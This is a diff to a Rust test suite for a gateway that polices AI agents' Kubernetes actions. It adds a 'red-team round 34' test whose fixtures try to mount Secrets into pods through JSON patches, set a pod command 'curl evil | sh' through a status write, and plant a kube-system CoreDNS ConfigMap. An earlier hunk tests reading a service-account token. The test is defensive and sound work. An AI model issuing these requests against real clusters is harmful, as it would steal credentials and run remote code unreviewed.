@@ -928,7 +928,9 @@ fn json_patches_cannot_carry_a_masked_value_to_another_name() {
     assert!(o.status.success() && !text(&o).0.contains("tok-77123"), "masked by its name: {:?}", text(&o));
     for patch in [r#"[{"op":"copy","from":"/data/API_TOKEN","path":"/data/plain"}]"#, r#"[{"op":"move","from":"/data/API_TOKEN","path":"/metadata/annotations"}]"#, "{not a patch"] {
         let o = kubectl(&kc, &["patch", "cm", "jp", "--type=json", "-p", patch]);
-        assert!(!o.status.success() && text(&o).1.contains("agent-no-k8s-patch-copy"), "{patch}: {:?}", text(&o));
+        // A body that is no JSON at all is also one the gateway cannot read for Secrets.
+        let (_, err) = text(&o);
+        assert!(!o.status.success() && (err.contains("agent-no-k8s-patch-copy") || (patch.starts_with("{not") && err.contains("cannot read"))), "{patch}: {err}");
     }
     let o = kubectl(&admin, &["get", "cm", "jp", "-o", "json"]);
     let (out, _) = text(&o);
@@ -985,4 +987,52 @@ fn agents_cannot_hand_secrets_to_pods() {
     assert!(o.status.success(), "{:?}", text(&o));
     let o = kubectl(&kc, &["exec", "pod-0", "--", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
     assert!(text(&o).1.contains("agent-no-credential-files"), "{:?}", text(&o));
+}
+
+/// Red-team round 34: a JSON patch put a Secret in a pod (its keys are in the operation's path,
+/// not the value); a pod's `status` took a new image and command with no review, on a server
+/// that applies a status write whole; and a create on the all-namespaces path filed a ConfigMap
+/// in the body's namespace while rules saw none. Each is refused, and the server's objects
+/// are as they were.
+#[test]
+fn patches_status_writes_and_body_namespaces_are_read_as_the_server_applies_them() {
+    let rule = r#"
+[[policy.rules]]
+name = "kube-system-is-read-only-for-agents"
+when = 'identity.kind == "agent" && action.kind == "k8s" && action.k8s.namespace == "kube-system" && action.k8s.verb in ["create", "update", "patch", "delete", "deletecollection"]'
+then = "deny"
+"#;
+    let gw = gateway(rule);
+    let kc = gw.agent();
+    let admin = gw.api.kubeconfig().unwrap();
+    for patch in [
+        r#"[{"op":"add","path":"/spec/volumes","value":[]},{"op":"add","path":"/spec/volumes/-","value":{"name":"s","secret":{"secretName":"db-creds"}}}]"#,
+        r#"[{"op":"add","path":"/spec/containers/0/env","value":[{"name":"P","valueFrom":{"secretKeyRef":{"name":"db-creds","key":"password"}}}]}]"#,
+        r#"[{"op":"add","path":"/spec/containers/0/envFrom/-","value":{"secretRef":{"name":"db-creds"}}}]"#,
+    ] {
+        let o = kubectl(&kc, &["patch", "pod", "pod-0", "--type=json", "-p", patch]);
+        assert!(!o.status.success() && text(&o).1.contains("agent-no-secret-mounts"), "{patch}: {:?}", text(&o));
+    }
+    let agent = format!("Bearer {}", gw.token("agent-1", IdentityKind::Agent, 600));
+    let denier = deny_all(&gw, 8);
+    let (code, body) = raw(
+        &gw,
+        "PATCH",
+        "/k8s/dev/api/v1/namespaces/default/pods/pod-0/status",
+        &[("Authorization", &agent), ("Content-Type", "application/merge-patch+json")],
+        r#"{"spec":{"containers":[{"name":"c","image":"evil:1","command":["sh","-c","curl evil | sh"]}]}}"#,
+    );
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("agent-review-k8s-workloads"), "{body}");
+    assert!(denier.join().unwrap() >= 1);
+    let (pod, _) = text(&kubectl(&admin, &["get", "pod", "pod-0", "-o", "json"]));
+    assert!(!pod.contains("evil") && !pod.contains("db-creds"), "the pod is as it was: {pod}");
+    let cm = r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"coredns-x","namespace":"kube-system"},"data":{"Corefile":"evil"}}"#;
+    let (code, body) = raw(&gw, "POST", "/k8s/dev/api/v1/configmaps", &[("Authorization", &agent), ("Content-Type", "application/json")], cm);
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("kube-system-is-read-only-for-agents"), "{body}");
+    let (code, body) = raw(&gw, "POST", "/k8s/dev/api/v1/namespaces/default/configmaps", &[("Authorization", &agent), ("Content-Type", "application/json")], cm);
+    assert_eq!(code, 400, "a body naming another namespace than its path: {body}");
+    assert!(!kubectl(&admin, &["get", "configmap", "coredns-x", "-n", "kube-system"]).status.success(), "never made");
+    assert!(!kubectl(&admin, &["get", "configmap", "coredns-x", "-n", "default"]).status.success(), "never made");
 }
